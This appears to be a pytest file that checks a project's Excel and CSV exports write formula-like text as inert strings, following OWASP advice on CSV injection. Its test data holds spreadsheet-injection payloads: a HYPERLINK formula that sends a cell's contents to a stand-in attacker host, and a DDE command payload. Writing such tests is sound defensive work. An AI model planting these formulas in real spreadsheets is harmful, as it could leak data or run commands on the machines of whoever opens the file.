"""Every workbook and CSV we write treats text as text (issue #15, item 6): a file name, a sheet name or a value
that starts with ``=`` (``=HYPERLINK(...)``) is written as a string, never as a live formula; CSV cells that a
spreadsheet would read as a formula are prefixed with a single quote (OWASP)."""

from __future__ import annotations

import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
from python_calamine import CalamineWorkbook

from publish.indicators.constants import EXPORT_COLUMNS
from publish.indicators.exports import _write_workbook as write_export_workbook
from publish.indicators.exports import csv_safe, csv_safe_text
from publish.quality.feedback import ROWS_SHEET, _write_workbook

EVIL = '=HYPERLINK("https:attacker.example?leak="&A1,"Bấm vào đây")'  # no "/": it is also a file name


def _no_formula_in(path: Path) -> None:
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, name
            assert "hyperlink" not in name.lower(), name


def _card() -> dict:
    return {
        "unit_code": "26041",
        "unit_name_vi": "Phường Thử",
        "period": "2026-H1",
        "deadline": "2026-06-20",
        "is_submitted": True,
        "is_on_time": True,
        "days_late": 0,
        "datasets_late": "",
        "datasets_missing": "",
        "datasets_expected": "persons",
        "datasets_received": "persons",
        "files_rejected": 1,
        "rows_rejected": 1,
        "issue_warnings": 0,
        "duplicate_rows": 0,
        "file_versions_received": 2,
        "rows_read": 3,
        "rows_loaded": 2,
        "rows_skipped": 0,
        "required_filled_share": 1.0,
        "coded_mapped_share": 1.0,
        "cccd_valid_share": 1.0,
    }


def test_feedback_workbook_keeps_formula_like_file_sheet_and_value_as_text(tmp_path):
    rows = pd.DataFrame(
        [
            {
                "source_file": f"2026-H1/ward/26041/{EVIL}.xlsx",
                "sheet_name": EVIL,
                "source_row": 5,
                "column_name": "full_name",
                "raw_value": "=1+1",
                "severity": "error",
                "message_vi": "@SUM(A1:A2)",
                "issue_code": "x",
            },
            {
                "source_file": "2026-H1/ward/26041/+cmd.csv",
                "sheet_name": "-2+3",
                "source_row": None,
                "column_name": "http://example.org",
                "raw_value": "http://example.org",
                "severity": "warning",
                "message_vi": "-",
                "issue_code": "y",
            },
        ]
    )
    path = tmp_path / "26041.xlsx"
    _write_workbook(path, _card(), rows)
    _no_formula_in(path)
    got = CalamineWorkbook.from_path(str(path)).get_sheet_by_name(ROWS_SHEET).to_python()
    assert got[1][0] == f"{EVIL}.xlsx"  # the file name
    assert got[1][1] == EVIL  # the sheet name
    assert got[1][4] == "=1+1" and got[1][6] == "@SUM(A1:A2)"
    assert got[2][0] == "+cmd.csv" and got[2][1] == "-2+3" and isinstance(got[2][1], str)
    assert got[2][4] == "http://example.org"


def test_export_workbook_keeps_formula_like_text_as_text(tmp_path):
    record = {name: None for name, _, _ in EXPORT_COLUMNS}
    record.update(
        group_code="A",
        indicator_code="A1",
        measure_code="A1",
        name_vi=EVIL,
        period="2026-H1",
        value=1.5,
        obs_note="=cmd|' /C calc'!A0",
        status="achieved",
    )
    path = tmp_path / "x.xlsx"
    write_export_workbook(pd.DataFrame([record]), path, "2026-H1")
    _no_formula_in(path)
    book = CalamineWorkbook.from_path(str(path))
    sheet = book.get_sheet_by_name(book.sheet_names[1]).to_python()
    assert EVIL in sheet[2] and "=cmd|' /C calc'!A0" in sheet[2]


def test_csv_cells_that_start_a_formula_are_neutralised_the_owasp_way(tmp_path):
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", EVIL):
        assert csv_safe_text(text) == "'" + text
    for value in ("Nhóm a", "1-2", "", None, 3, -2.5, np.float64(-1)):
        assert csv_safe_text(value) is value or csv_safe_text(value) == value
    frame = pd.DataFrame({"name_vi": [EVIL, "bình thường"], "value": [-1.5, 2.0], "n": [-3, 4]})
    out = csv_safe(frame)
    assert list(out["name_vi"]) == ["'" + EVIL, "bình thường"]
    assert list(out["value"]) == [-1.5, 2.0] and list(out["n"]) == [-3, 4]  # numbers stay numbers
    assert frame["name_vi"][0] == EVIL  # the caller's frame is not changed
    path = tmp_path / "x.csv"
    out.to_csv(path, index=False, encoding="utf-8-sig")
    back = pd.read_csv(path, encoding="utf-8-sig")
    assert back["name_vi"][0].startswith("'=")
